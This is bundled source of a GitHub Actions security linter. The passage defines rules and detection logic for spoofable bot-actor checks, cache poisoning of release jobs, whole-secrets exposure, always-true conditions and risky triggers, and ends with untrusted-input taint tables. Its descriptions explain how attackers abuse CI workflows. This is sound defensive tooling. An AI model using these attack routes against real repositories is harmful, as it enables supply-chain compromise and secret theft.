function readPaths(e) {
    const out = [];
    const walk = (n) => {
        const path = accessPath(n);
        if (path) {
            out.push(path);
            return;
        }
        if (n instanceof ast/* IndexAccess */.p_) {
            walk(n.expr);
            walk(n.index);
        }
        else if (n instanceof ast/* FunctionCall */.R6)
            n.args.forEach(walk);
        else if (n instanceof ast/* Binary */.yI) {
            walk(n.left);
            walk(n.right);
        }
        else if (n instanceof ast/* Logical */.oD)
            n.args.forEach(walk);
        else if (n instanceof ast/* Unary */._c)
            walk(n.expr);
        else if (n instanceof ast/* Grouping */.aU)
            walk(n.group);
    };
    walk(e);
    return out;
}
/** True when an expression reads no context and calls no status function: its value is fixed when written. */
function isConstant(e) {
    if (e instanceof ast/* Literal */.uS)
        return true;
    if (e instanceof ast/* ContextAccess */.QC || e instanceof ast/* Star */.FE)
        return false;
    if (e instanceof ast/* IndexAccess */.p_)
        return isConstant(e.expr) && isConstant(e.index);
    if (e instanceof ast/* FunctionCall */.R6) {
        const name = e.functionName.lexeme.toLowerCase();
        if (['success', 'always', 'failure', 'cancelled', 'hashfiles'].includes(name))
            return false;
        return e.args.every(isConstant);
    }
    if (e instanceof ast/* Binary */.yI)
        return isConstant(e.left) && isConstant(e.right);
    if (e instanceof ast/* Logical */.oD)
        return e.args.every(isConstant);
    if (e instanceof ast/* Unary */._c)
        return isConstant(e.expr);
    if (e instanceof ast/* Grouping */.aU)
        return isConstant(e.group);
    return false;
}
/** The truthiness of a constant expression (undefined when it cannot be evaluated). */
function constantTruth(e) {
    try {
        return (0,result/* truthy */.vN)(new expressions_dist/* Evaluator */.oi(e, new expressions_dist/* data.Dictionary */.p.bT()).evaluate());
    }
    catch {
        return undefined;
    }
}
/** The name of a function call (lower case), or undefined. */
function callName(e) {
    return e instanceof ast/* FunctionCall */.R6 ? e.functionName.lexeme.toLowerCase() : undefined;
}

/** Calls `fn` on an expression and every expression inside it. */
function visitAll(e, fn) {
    fn(e);
    if (e instanceof ast/* IndexAccess */.p_) {
        visitAll(e.expr, fn);
        visitAll(e.index, fn);
    }
    else if (e instanceof ast/* FunctionCall */.R6 || e instanceof ast/* Logical */.oD)
        e.args.forEach((a) => visitAll(a, fn));
    else if (e instanceof ast/* Binary */.yI) {
        visitAll(e.left, fn);
        visitAll(e.right, fn);
    }
    else if (e instanceof ast/* Unary */._c)
        visitAll(e.expr, fn);
    else if (e instanceof ast/* Grouping */.aU)
        visitAll(e.group, fn);
}
/** The expression of an `if:` value: a bare expression, or one fenced in `${{ }}` with nothing around it. */
function conditionSource(value) {
    const fenced = /^\s*\$\{\{([\s\S]*)\}\}\s*$/.exec(value);
    return fenced && embeddedExpressions(value).length === 1 ? (fenced[1] ?? '') : value;
}

;// CONCATENATED MODULE: ./packages/workflows/src/rules/bot-conditions.ts


/** `github.actor == '<name>[bot]'` comparisons inside an expression. */
function botComparisons(e) {
    const out = [];
    visitAll(e, (n) => {
        if (!(n instanceof ast/* Binary */.yI) || (n.operator.lexeme !== '==' && n.operator.lexeme !== '!='))
            return;
        const sides = [n.left, n.right];
        const path = sides
            .map(accessPath)
            .find((p) => p !== undefined)
            ?.join('.');
        const lit = sides.find((s) => s instanceof ast/* Literal */.uS);
        const value = lit ? String(literalValue(lit)) : '';
        if ((path === 'github.actor' || path === 'github.triggering_actor') && /\[bot\]$/i.test(value))
            out.push(`${path} == '${value}'`);
    });
    return out;
}
const conditionOf = (node) => {
    const v = yaml_tree_text(node);
    return v === undefined ? undefined : conditionSource(v);
};
/** `if: github.actor == 'dependabot[bot]'`: the last actor, not the author, and spoofable. */
const botConditions = {
    id: 'bot-conditions',
    title: 'Spoofable bot check on github.actor',
    severity: 'high',
    confidence: 'high',
    category: 'security',
    description: "`github.actor` is whoever acted last on the event, not who wrote the change: an attacker can get a bot to act last on a pull request whose other commits are the attacker's, and pass the check.",
    fix: "Compare the author of the change instead: `github.event.pull_request.user.login == 'dependabot[bot]'`.",
    appliesTo: ['workflow'],
    check(model) {
        if (!['pull_request_target', 'pull_request', 'workflow_run', 'issue_comment', 'pull_request_review'].some((t) => model.triggers.has(t)))
            return [];
        const out = [];
        const judge = (node, where) => {
            const cond = conditionOf(node);
            const e = cond ? parseExpression(cond) : undefined;
            if (!node || !e)
                return;
            for (const c of botComparisons(e))
                out.push({ message: `${where} trusts ${c}`, line: node.line, confidence: model.exposure === 'privileged' ? 'high' : 'medium' });
        };
        for (const job of model.jobs) {
            judge(child(job.node, 'if'), `job '${job.id}'`);
            for (const step of job.steps)
                judge(child(step.node, 'if'), `a step of '${job.id}'`);
        }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/cache-poisoning.ts



/** True when the workflow only runs for releases or tag pushes. */
function releaseOnly(model) {
    const names = [...model.triggers.keys()];
    if (names.length === 0)
        return false;
    return names.every((t) => {
        if (t === 'release')
            return true;
        if (t !== 'push')
            return t === 'workflow_dispatch';
        const push = child(model.on, 'push');
        return child(push, 'tags') !== undefined && child(push, 'branches') === undefined;
    });
}
/** True when a job publishes: a publishing action, or a script that uploads a package or image. */
function publishes(job) {
    return job.steps.some((s) => (s.uses &&
        (PUBLISHERS[actionName(s.uses)] !== undefined ||
            /goreleaser|action-gh-release|release-action|build-push-action/.test(actionName(s.uses)))) ||
        (s.run !== undefined &&
            /\b(npm|pnpm|yarn) publish\b|\btwine upload\b|\bcargo publish\b|\bgem push\b|\bdocker push\b|\bgh release (create|upload)\b|\bgoreleaser release\b/.test(s.run)));
}
/** Cache-restoring actions in workflows that build what gets released. */
const cachePoisoning = {
    id: 'cache-poisoning',
    title: 'Release built from a restored cache',
    severity: 'high',
    confidence: 'high',
    category: 'security',
    description: "Caches are shared across a repository's workflows, and any job with the repository's token (including one running a compromised dependency in a pull request's CI) can write entries that a later release job restores and runs (cache poisoning, 2024). A release built from a restored cache can ship the attacker's code.",
    fix: "Do not restore caches in release jobs: remove the cache step, turn the action's cache input off, or guard it with `if: github.event_name != 'release'`.",
    appliesTo: ['workflow'],
    check(model) {
        const release = releaseOnly(model);
        const out = [];
        for (const job of model.jobs) {
            const publishing = publishes(job);
            if (!release && !publishing)
                continue;
            for (const step of job.steps) {
                if (!step.uses)
                    continue;
                const name = actionName(step.uses);
                const known = CACHE_AWARE[name];
                if (!known)
                    continue;
                if (known.off && withValue(step, known.off.input) === known.off.value)
                    continue;
                const major = /@v(\d+)/.exec(step.uses)?.[1] ?? /#\s*v(\d+)/.exec(model.doc.lines[step.usesLine - 1] ?? '')?.[1];
                if (known.sinceMajor && major !== undefined && Number(major) < known.sinceMajor)
                    continue;
                if (known.opt && !known.opt.value.test(withValue(step, known.opt.input) ?? ''))
                    continue;
                if (yaml_tree_text(child(step.node, 'if'))?.includes('event_name'))
                    continue;
                out.push({
                    message: `${name} restores a cache in job '${job.id}', which ${release ? 'runs only for releases' : 'publishes a release'}`,
                    line: step.usesLine,
                    confidence: release ? 'high' : 'medium',
                });
            }
        }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/concurrency-deadlock.ts

/** True when a group has no literal text of its own besides separators (it only echoes the caller's values). */
function echoesCaller(group) {
    if (!/github\.workflow\b/.test(group))
        return false;
    const literal = group.replace(/\$\{\{[\s\S]*?\}\}/g, '').replace(/[\s\-_/.:|]/g, '');
    return literal === '';
}
function groupOf(node) {
    const scalar = yaml_tree_text(node);
    if (scalar !== undefined && node)
        return { group: scalar, line: node.line };
    const g = child(node, 'group');
    const value = yaml_tree_text(g);
    return value !== undefined && g ? { group: value, line: g.line } : undefined;
}
/** Expressions compared without their spacing: `${{github.ref}}` and `${{ github.ref }}` are one group. */
const normal = (group) => group.replace(/\s+/g, '');
/** The concurrency groups a called workflow declares (workflow level and per job). */
function calleeGroups(content, source) {
    let root;
    try {
        root = parseYamlTree(content, source).root;
    }
    catch {
        // The called file's own audit reports that it does not parse.
        return [];
    }
    const groups = [groupOf(child(root, 'concurrency'))];
    for (const [, job] of entries(child(root, 'jobs')))
        groups.push(groupOf(child(job, 'concurrency')));
    return groups.filter((g) => g !== undefined).map((g) => normal(g.group));
}
/** A called workflow whose concurrency group equals its caller's (`github.workflow` is the caller's name there). */
const concurrencyDeadlock = {
    id: 'concurrency-deadlock',
    title: 'Concurrency group of a called workflow collides with its caller',
    severity: 'high',
    confidence: 'high',
    category: 'validation',
    description: "Inside a workflow_call workflow, `github.workflow` and `github.ref` are the caller's. A group built only from them is the caller's own group, so the called workflow waits on (or cancels) the run that called it.",
    fix: 'Give the called workflow its own prefix: `group: secure-pipeline-${{ github.workflow }}-${{ github.ref }}`, or set concurrency only in the caller.',
    appliesTo: ['workflow'],
    check(model, options) {
        const out = [];
        // The caller's side: its own group is the one a local callee also declares.
        const own = groupOf(child(model.root, 'concurrency'));
        if (own && options.readLocalWorkflow) {
            for (const job of model.jobs) {
                if (!job.calls?.startsWith('./'))
                    continue;
                const callee = options.readLocalWorkflow(job.calls.slice(2));
                if (callee !== undefined && calleeGroups(callee, job.calls).includes(normal(own.group))) {
                    out.push({
                        message: `job '${job.id}' calls ${job.calls}, which declares this workflow's concurrency group '${own.group}': the two runs wait on each other`,
                        line: child(job.node, 'uses')?.line ?? job.line,
                    });
                }
            }
        }
        if (!model.triggers.has('workflow_call'))
            return out;
        const top = groupOf(child(model.root, 'concurrency'));
        if (top && echoesCaller(top.group))
            out.push({ message: `workflow concurrency group '${top.group}' is the caller's group`, line: top.line });
        for (const job of model.jobs) {
            const g = groupOf(child(job.node, 'concurrency'));
            if (g && echoesCaller(g.group))
                out.push({ message: `job '${job.id}' concurrency group '${g.group}' is the caller's group`, line: g.line });
        }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/secrets.ts


/** Every parsed `${{ }}` of the file, with the scalar it sits in. */
const expressionsCache = new WeakMap();
function allExpressions(model) {
    const hit = expressionsCache.get(model.root);
    if (hit)
        return hit;
    const out = [];
    expressionsCache.set(model.root, out);
    const walk = (node) => {
        if (!node)
            return;
        if (node.kind === 'scalar') {
            if (typeof node.value !== 'string' || !node.value.includes('${{'))
                return;
            for (const e of embeddedExpressions(node.value)) {
                const expr = parseExpression(e.source);
                if (expr)
                    out.push({ node, source: e.source, expr });
            }
        }
        else if (node.kind === 'seq')
            node.items.forEach(walk);
        else
            for (const v of node.entries.values())
                walk(v);
    };
    walk(model.root);
    return out;
}
const isSecrets = (e) => e !== undefined && accessPath(e)?.join('.') === 'secrets';
/** `toJSON(secrets)` and `secrets[expr]`: every secret of the repository sent to the runner. */
const overprovisionedSecrets = {
    id: 'overprovisioned-secrets',
    title: 'The whole secrets context exposed',
    severity: 'medium',
    confidence: 'high',
    category: 'security',
    description: 'The runner receives only the secrets a job names. `toJSON(secrets)` or an index computed at run time (`secrets[inputs.name]`) names them all, so every secret of the repository and organisation reaches the job.',
    fix: 'Name each secret the job needs: `env: { TOKEN: ${{ secrets.TOKEN }} }`.',
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        for (const { node, source, expr } of allExpressions(model)) {
            let hit = false;
            visitAll(expr, (n) => {
                if (n instanceof ast/* FunctionCall */.R6 && callName(n) === 'tojson' && isSecrets(n.args[0]))
                    hit = true;
                if (n instanceof ast/* IndexAccess */.p_ && isSecrets(n.expr) && accessPath(n)?.includes('?'))
                    hit = true;
            });
            if (hit)
                out.push({ message: `\${{ ${source} }} exposes every secret`, line: node.line });
        }
        return out;
    },
};
/** `fromJSON(secrets.X).field`: a part of a secret the runner does not know to mask in logs. */
const unredactedSecrets = {
    id: 'unredacted-secrets',
    title: 'Secret used as structured data (not masked in logs)',
    severity: 'medium',
    confidence: 'high',
    category: 'security',
    description: "The runner masks each secret's whole value in logs; a field taken out of a JSON secret is a different string and is printed in clear.",
    fix: 'Store each field as its own secret.',
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        for (const { node, source, expr } of allExpressions(model)) {
            let hit = false;
            visitAll(expr, (n) => {
                if (n instanceof ast/* FunctionCall */.R6 && callName(n) === 'fromjson' && n.args[0] && accessPath(n.args[0])?.[0] === 'secrets')
                    hit = true;
            });
            if (hit)
                out.push({ message: `\${{ ${source} }} takes a part of a secret, which is not masked`, line: node.line });
        }
        return out;
    },
};
/** Secrets read by jobs without an environment, where environment protection rules cannot gate them. */
const secretsOutsideEnv = {
    id: 'secrets-outside-env',
    title: 'Secret used in a job without a deployment environment',
    severity: 'low',
    confidence: 'low',
    category: 'security',
    description: "Repository and organisation secrets reach every job; an environment's secrets reach only jobs its protection rules let through.",
    fix: 'Move the secret into an environment and give the job `environment: <name>`.',
    appliesTo: ['workflow'],
    check(model) {
        const out = [];
        for (const job of model.jobs) {
            if (child(job.node, 'environment') !== undefined || job.calls)
                continue;
            const found = new Set();
            const sub = { ...model, root: job.node };
            for (const { node, expr } of allExpressions(sub)) {
                visitAll(expr, (n) => {
                    const p = accessPath(n);
                    if (p?.[0] === 'secrets' && p[1] && p[1] !== 'GITHUB_TOKEN' && !found.has(p[1])) {
                        found.add(p[1]);
                        out.push({ message: `job '${job.id}' reads secrets.${p[1]} without an environment`, line: node.line });
                    }
                });
            }
        }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/conditions.ts



/** Every `if:` of a workflow or composite action, with where it is. */
function conditions(model) {
    const out = [];
    const add = (node, where) => {
        const value = yaml_tree_text(node);
        if (node && value !== undefined)
            out.push({ node, value, where });
    };
    for (const job of model.jobs) {
        add(child(job.node, 'if'), `job '${job.id}'`);
        for (const step of job.steps)
            add(child(step.node, 'if'), `step ${step.index + 1} of '${job.id}'`);
    }
    return out;
}
/** Every expression of an `if:` (bare, or each fenced one). */
function conditionExpressions(value) {
    const fenced = embeddedExpressions(value);
    const sources = fenced.length > 0 ? fenced.map((f) => f.source) : [value];
    return sources.map(parseExpression).filter((e) => e !== undefined);
}
/** `if: |` block scalars and `${{ a }} && ${{ b }}`: text outside the fence makes the condition a non-empty string, always true. */
const unsoundCondition = {
    id: 'unsound-condition',
    title: 'Condition that is always true',
    severity: 'high',
    confidence: 'high',
    category: 'security',
    description: "When an `if:` holds `${{ }}` with any other text beside it (a block scalar's trailing newline, a second fenced expression), GitHub evaluates the whole as a string, which is never empty and so always true: the guard never stops the job or step.",
    fix: "Write the condition as one bare expression (`if: github.event_name == 'push'`), or use `|-` so no newline is kept.",
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        for (const c of conditions(model)) {
            const fenced = embeddedExpressions(c.value);
            if (fenced.length === 0)
                continue;
            const outside = c.value.slice(0, fenced[0]?.start ?? 0) + c.value.slice(fenced[fenced.length - 1]?.end ?? 0);
            if (fenced.length > 1 || outside.length > 0)
                out.push({
                    message: `the condition of ${c.where} has text outside \${{ }} (${JSON.stringify(outside || ' between expressions ')}), so it is always true`,
                    line: c.node.line,
                });
        }
        return out;
    },
};
/** `contains('refs/heads/main refs/heads/dev', github.ref)`: a substring test that `refs/heads/mai` also passes. */
const unsoundContains = {
    id: 'unsound-contains',
    title: 'contains() on a string instead of a list',
    severity: 'medium',
    confidence: 'high',
    category: 'security',
    description: "With a string as its first argument, contains() tests for a substring: a branch named `mai` passes `contains('refs/heads/main refs/heads/develop', github.ref)`.",
    fix: 'Give contains() a list: `contains(fromJSON(\'["refs/heads/main", "refs/heads/develop"]\'), github.ref)`, or compare with ==.',
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        for (const c of conditions(model)) {
            for (const e of conditionExpressions(c.value)) {
                visitAll(e, (n) => {
                    if (!(n instanceof ast/* FunctionCall */.R6) || callName(n) !== 'contains')
                        return;
                    const [hay, needle] = n.args;
                    const path = needle ? accessPath(needle)?.join('.') : undefined;
                    if (hay instanceof ast/* Literal */.uS &&
                        typeof literalValue(hay) === 'string' &&
                        path &&
                        /^(github\.(ref|ref_name|head_ref|base_ref|actor|event\.))|inputs\./.test(path))
                        out.push({
                            message: `the condition of ${c.where} tests whether ${path} is a substring of '${String(literalValue(hay))}'`,
                            line: c.node.line,
                        });
                });
            }
        }
        return out;
    },
};
function falsyConstant(e) {
    return isConstant(e) && constantTruth(e) === false;
}
/** `cond && '' || 'x'`: the "true" branch is falsy, so the result is always `'x'`. */
const unsoundTernary = {
    id: 'unsound-ternary',
    title: 'Pseudo-ternary whose true value is falsy',
    severity: 'low',
    confidence: 'high',
    category: 'hygiene',
    description: "`a && b || c` yields c whenever b is falsy, so `cond && '' || 'x'` (or `&& 0`, `&& false`) is always 'x'.",
    fix: "Swap the branches and negate the condition: `!cond && 'x' || ''`.",
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        for (const { node, source, expr } of allExpressions(model)) {
            visitAll(expr, (n) => {
                if (!(n instanceof ast/* Logical */.oD) || n.operator.lexeme !== '||')
                    return;
                for (const operand of n.args.slice(0, -1)) {
                    if (operand instanceof ast/* Logical */.oD && operand.operator.lexeme === '&&' && !isConstant(operand)) {
                        const t = operand.args[operand.args.length - 1];
                        if (t && falsyConstant(t))
                            out.push({ message: `\${{ ${source} }} always yields its last alternative`, line: node.line });
                    }
                }
            });
        }
        return out;
    },
};
/** `if: true`, `if: false`, `if: 1 == 2`: a condition fixed when it was written. */
const constantCondition = {
    id: 'constant-condition',
    title: 'Condition with a constant value',
    severity: 'medium',
    confidence: 'high',
    category: 'validation',
    description: 'A condition that reads no context always has the same value: the job or step always runs, or never does, which is rarely what was meant.',
    fix: 'Remove the condition (always true) or the job or step (always false), or make it test what was meant.',
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        for (const c of conditions(model)) {
            if (embeddedExpressions(c.value).length > 0 && c.value.trim() !== c.value)
                continue;
            const e = parseExpression(conditionSource(c.value));
            if (!e || !isConstant(e))
                continue;
            const truth = constantTruth(e);
            if (truth !== undefined)
                out.push({ message: `the condition of ${c.where} is always ${truth}`, line: c.node.line });
        }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/container-credentials.ts

/** Registry passwords written into the workflow for `container:` and `services:`. */
const hardcodedContainerCredentials = {
    id: 'hardcoded-container-credentials',
    title: 'Registry password written in the workflow',
    severity: 'high',
    confidence: 'high',
    category: 'security',
    description: 'A password in the file is readable by everyone who can read the repository, forks and history included.',
    fix: 'Use a secret: `password: ${{ secrets.REGISTRY_PASSWORD }}`.',
    appliesTo: ['workflow'],
    check(model) {
        const out = [];
        const judge = (container, where) => {
            const pw = child(child(container, 'credentials'), 'password');
            const value = yaml_tree_text(pw);
            if (pw && value && !value.includes('${{'))
                out.push({ message: `${where} has its registry password written in the file`, line: pw.line });
        };
        for (const job of model.jobs) {
            judge(child(job.node, 'container'), `the container of job '${job.id}'`);
            for (const [name, service] of entries(child(job.node, 'services')))
                judge(service, `service '${name}' of job '${job.id}'`);
        }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/dangerous-triggers.ts
/** pull_request_target and workflow_run: privileged runs that outsiders trigger. */
const dangerousTriggers = {
    id: 'dangerous-triggers',
    title: 'Workflow triggered by pull_request_target or workflow_run',
    severity: 'medium',
    confidence: 'medium',
    category: 'security',
    description: "These triggers run in the base repository's context, with its secrets and a writing token, on events a fork's author causes. Even without checking out the fork's code, argument, environment or file-name injection can turn its content into code.",
    fix: 'Use `pull_request` (read-only, no secrets) unless the job must write to the base repository; for workflow_run, prefer a reusable workflow (`workflow_call`).',
    appliesTo: ['workflow'],
    check(model) {
        return ['pull_request_target', 'workflow_run']
            .filter((t) => model.triggers.has(t))
            .map((t) => ({
            message: `the workflow runs on ${t}, with the base repository's secrets, for events outsiders cause`,
            line: model.triggers.get(t) ?? 1,
        }));
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/rules/definition-hygiene.ts


/** Workflows and actions without `name:`. */
const anonymousDefinition = {
    id: 'anonymous-definition',
    title: 'Workflow or action without a name',
    severity: 'low',
    confidence: 'low',
    category: 'hygiene',
    description: 'Without `name:` the Actions UI shows the file path, which makes runs harder to tell apart.',
    fix: 'Add `name:` at the top.',
    appliesTo: ['workflow', 'action'],
    check(model) {
        return child(model.root, 'name') === undefined ? [{ message: 'the file has no name:', line: model.root.line }] : [];
    },
};
/** Workflows whose runs do not cancel superseded ones. */
const concurrencyLimits = {
    id: 'concurrency-limits',
    title: 'No concurrency limit',
    severity: 'low',
    confidence: 'low',
    category: 'hygiene',
    description: 'Without a concurrency group that cancels in progress, every push starts another full run, and runs race for artifacts by name.',
    fix: 'Add `concurrency: { group: ${{ github.workflow }}-${{ github.ref }}, cancel-in-progress: true }`.',
    appliesTo: ['workflow'],
    check(model) {
        if (model.triggers.has('workflow_call') || child(model.root, 'concurrency') !== undefined)
            return [];
        if (model.jobs.every((j) => child(j.node, 'concurrency') !== undefined))
            return [];
        return [{ message: 'the workflow sets no concurrency group', line: 1 }];
    },
};
/** Write permissions without a comment saying why. */
const undocumentedPermissions = {
    id: 'undocumented-permissions',
    title: 'Permission granted without a comment',
    severity: 'low',
    confidence: 'low',
    category: 'hygiene',
    description: 'A comment beside each grant (`id-token: write # sign the image`) lets a reviewer see that it is still needed.',
    fix: 'Add a comment after each grant other than `contents: read`.',
    appliesTo: ['workflow'],
    check(model) {
        const out = [];
        const blocks = [child(model.root, 'permissions'), ...model.jobs.map((j) => child(j.node, 'permissions'))];
        for (const block of blocks)
            for (const [scope, v] of entries(block)) {
                if (scope === 'contents' && yaml_tree_text(v) === 'read')
                    continue;
                if (yaml_tree_text(v) === 'none')
                    continue;
                const line = keyLine(block, scope);
                if (!/#/.test(model.doc.lines[line - 1] ?? ''))
                    out.push({ message: `'${scope}: ${yaml_tree_text(v) ?? ''}' has no comment saying why`, line });
            }
        return out;
    },
};
const SHELLS = new Set(['bash', 'sh', 'pwsh', 'powershell', 'python', 'cmd']);
/** Features that work but defeat review: setup-python's pip-install, the CMD shell, unknown shells. */
const misfeature = {
    id: 'misfeature',
    title: 'Feature that hides what a step does',
    severity: 'low',
    confidence: 'medium',
    category: 'hygiene',
    description: "setup-python's `pip-install` installs into the global environment outside any lockfile; CMD has no grammar auditors can read; a custom shell may not exist on every runner.",
    fix: 'Install packages in a run: step from a lockfile, and use bash or pwsh.',
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        for (const job of model.jobs)
            for (const step of job.steps) {
                if (step.uses && actionName(step.uses) === 'actions/setup-python' && withValue(step, 'pip-install') !== undefined)
                    out.push({
                        message: "setup-python's pip-install installs outside any lockfile",
                        line: child(step.with, 'pip-install')?.line ?? step.usesLine,
                    });
                const shell = yaml_tree_text(child(step.node, 'shell'));
                if (shell === 'cmd')
                    out.push({ message: `a step of '${job.id}' runs in the CMD shell`, line: child(step.node, 'shell')?.line ?? step.line });
                else if (shell && !SHELLS.has(shell.split(/\s/)[0] ?? '') && !shell.includes('{0}'))
                    out.push({
                        message: `a step of '${job.id}' runs in the shell '${shell}'`,
                        line: child(step.node, 'shell')?.line ?? step.line,
                        confidence: 'low',
                    });
            }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/sinks.ts



/** The code sinks of a step: `run:`, and the inputs of well-known actions that run their value as code. */
function codeSinks(step) {
    const out = [];
    const run = child(step.node, 'run');
    if (run && step.run !== undefined)
        out.push({ node: run, value: step.run, where: 'the run: script' });
    if (!step.uses)
        return out;
    const name = step.uses.startsWith('docker://') ? 'docker://' : actionName(step.uses);
    const known = SCRIPT_INPUTS[name] ?? SCRIPT_INPUTS[name.split('/').slice(0, 2).join('/')];
    if (!known)
        return out;
    for (const [input, node] of entries(step.with)) {
        const value = yaml_tree_text(node);
        if (value !== undefined && known.inputs.includes(input.toLowerCase()))
            out.push({ node, value, where: `${name}'s ${input} input (${known.language})` });
    }
    return out;
}
/** The 1-based line of an offset inside a scalar's value: block scalars start on the line after their key. */
function lineWithin(model, node, value, offset) {
    const header = model.doc.lines[node.line - 1] ?? '';
    const block = /[|>][-+0-9]*\s*(#.*)?$/.test(header.trimEnd());
    const before = value.slice(0, offset).split('\n').length - 1;
    return node.line + (block ? 1 : 0) + before;
}

;// CONCATENATED MODULE: ./packages/workflows/src/rules/deprecated-commands.ts


const DEPRECATED = {
    'set-output': 'echo "name=value" >> "$GITHUB_OUTPUT"',
    'save-state': 'echo "name=value" >> "$GITHUB_STATE"',
    'set-env': 'echo "NAME=value" >> "$GITHUB_ENV"',
    'add-path': 'echo "/path" >> "$GITHUB_PATH"',
};
/** `::set-output`, `::save-state`, `::set-env` and `::add-path` printed by scripts. */
const deprecatedCommands = {
    id: 'deprecated-commands',
    title: 'Deprecated workflow command',
    severity: 'medium',
    confidence: 'high',
    category: 'validation',
    description: 'GitHub disabled `::set-env` and `::add-path` in 2020 and deprecated `::set-output` and `::save-state` in 2022: the runner ignores them or warns, and they are written through stdout, which any tool the step runs can forge.',
    fix: 'Write to the environment files instead ($GITHUB_OUTPUT, $GITHUB_STATE, $GITHUB_ENV, $GITHUB_PATH).',
    appliesTo: ['workflow', 'action'],
    check(model) {
        const out = [];
        for (const job of model.jobs)
            for (const step of job.steps) {
                const run = child(step.node, 'run');
                if (step.run === undefined || !run || !step.run.includes('::'))
                    continue;
                for (const m of step.run.matchAll(/::(set-output|save-state|set-env|add-path)\b/g))
                    out.push({
                        message: `'::${m[1]}' is deprecated: use ${DEPRECATED[m[1] ?? ''] ?? ''}`,
                        line: lineWithin(model, run, step.run, m.index),
                    });
            }
        return out;
    },
};

;// CONCATENATED MODULE: ./packages/workflows/src/taint.ts

const TRUSTED_GITHUB = new Set([
    'event_name',
    'repository',
    'repository_owner',
    'repository_id',
    'repository_owner_id',
    'repositoryurl',
    'sha',
    'run_id',
    'run_number',
    'run_attempt',
    'workflow',
    'workflow_ref',
    'workflow_sha',
    'server_url',
    'api_url',
    'graphql_url',
    'token',
    'job',
    'action',
    'action_path',
    'action_ref',
    'action_repository',
    'action_status',
    'workspace',
    'ref_type',
    'ref_protected',
    'retention_days',
    'event_path',
    'env',
    'path',
    'output',
    'secret_source',
]);
// Branch and tag names of the base repository: only its writers create them, and git forbids spaces.
const CONSTRAINED_GITHUB = new Set(['ref', 'ref_name', 'base_ref', 'actor', 'triggering_actor', 'actor_id', 'triggering_actor_id']);
// Leaves of event payloads an outsider writes freely (webhook payload fields).
const FREE_LEAVES = new Set([
    'title',
    'body',
    'message',
    'email',
    'label',
    'head_ref',
    'head_branch',
    'display_title',
    'description',
    'page_name',
    'summary',
    'text',
    'homepage',
    'default_branch',
    'content',
    'answer',
    'path',
    'filename',
]);
const CONSTRAINED_LEAVES = new Set([
    'number',
    'id',
    'node_id',
    'sha',
    'before',
    'after',
    'draft',
    'merged',
    'locked',
    'fork',
    'private',
    'state',
    'action',
    'author_association',
    'conclusion',
    'status',
    'event',
    'login',
    'type',
    'additions',
    'deletions',
    'changed_files',
    'commits',
    'comments',
    'review_comments',
    'size',
    'forced',
    'created',
    'deleted',
    'run_number',
    'run_attempt',
    'full_name',
    'html_url',
    'url',
    'site_admin',
    'mergeable',
    'rebaseable',
    'maintainer_can_modify',
    'distinct',
    'timestamp',
    'visibility',
    'archived',
    'disabled',
    'position',
    'line',
    'original_line',
    'start_line',
    'original_position',
    'side',
    'commit_id',
    'original_commit_id',
    'in_reply_to_id',
    'pull_request_review_id',
    'workflow_id',
    'check_suite_id',
    'language',
    'stargazers_count',
    'watchers_count',
    'forks_count',
    'open_issues_count',
]);
// Parents whose `name` is a repository, account or workflow name (constrained characters), not free text.
const NAMED_CONSTRAINED = new Set(['repo', 'repository', 'head_repository', 'base', 'owner', 'user', 'sender', 'organization', 'workflow']);
function eventLeaf(path) {
    const rest = path.slice(2).filter((p) => p !== '*');
    if (rest.length === 0)
        return { taint: 'free', confidence: 'high' };
    // The base repository's own metadata is the maintainers'.
    if (rest[0] === 'repository' || rest[0] === 'organization' || rest[0] === 'enterprise' || rest[0] === 'installation')
        return { taint: 'trusted', confidence: 'high' };
    if (rest[0] === 'inputs')
        return { taint: 'constrained', confidence: 'medium' };
    const leaf = rest[rest.length - 1] ?? '';
    const parent = rest[rest.length - 2] ?? '';
    if (leaf === 'ref')
        return parent === 'head' ? { taint: 'free', confidence: 'high' } : { taint: 'constrained', confidence: 'high' };
    if (leaf === 'name')
        return NAMED_CONSTRAINED.has(parent) ? { taint: 'constrained', confidence: 'high' } : { taint: 'free', confidence: 'high' };
    if (FREE_LEAVES.has(leaf))
        return { taint: 'free', confidence: 'high' };
    if (CONSTRAINED_LEAVES.has(leaf) || /_(id|at|sha|url|count)$/.test(leaf))
        return { taint: 'constrained', confidence: 'high' };
    // An object (`github.event.pull_request`, `...head_commit`) serialises its free-text fields too.
    if (/^(pull_request|issue|comment|review|head_commit|commits|workflow_run|discussion|release|pages|head|base|label|labels|sender|user|author|committer)$/.test(leaf))
        return { taint: 'free', confidence: 'high' };
    return { taint: 'free', confidence: 'medium' };
}
/** Output names of well-known actions whose values are outsiders' text (changed file names). */
const TAINTED_OUTPUTS = {
    'tj-actions/changed-files': /files|_list$/,
    'dorny/paths-filter': /_files$/,
    'tj-actions/branch-names': /branch|ref/,
};
const key = (p) => p.join('.');
function classify(path, scope, depth) {
    const [root = '', second = '', third = ''] = path;
    const one = (taint, confidence) => [{ path: key(path), taint, confidence }];
    switch (root) {
        case 'secrets':
        case 'vars':
        case 'runner':
        case 'strategy':
        case 'job':
            return one('trusted', 'high');
        case 'github': {
            if (path.length === 1)
                return one('free', 'high');
            const name = second.toLowerCase();
            if (name === 'event')
                return eventLeaf(path).taint === 'trusted' ? one('trusted', 'high') : [{ path: key(path), ...eventLeaf(path) }];
            if (name === 'head_ref')
                return one('free', 'high');
            if (TRUSTED_GITHUB.has(name))
                return one('trusted', 'high');
            if (CONSTRAINED_GITHUB.has(name))
                return one('constrained', 'high');
            return one('free', 'medium');
        }
        case 'inputs': {
            const type = scope.inputType(second);
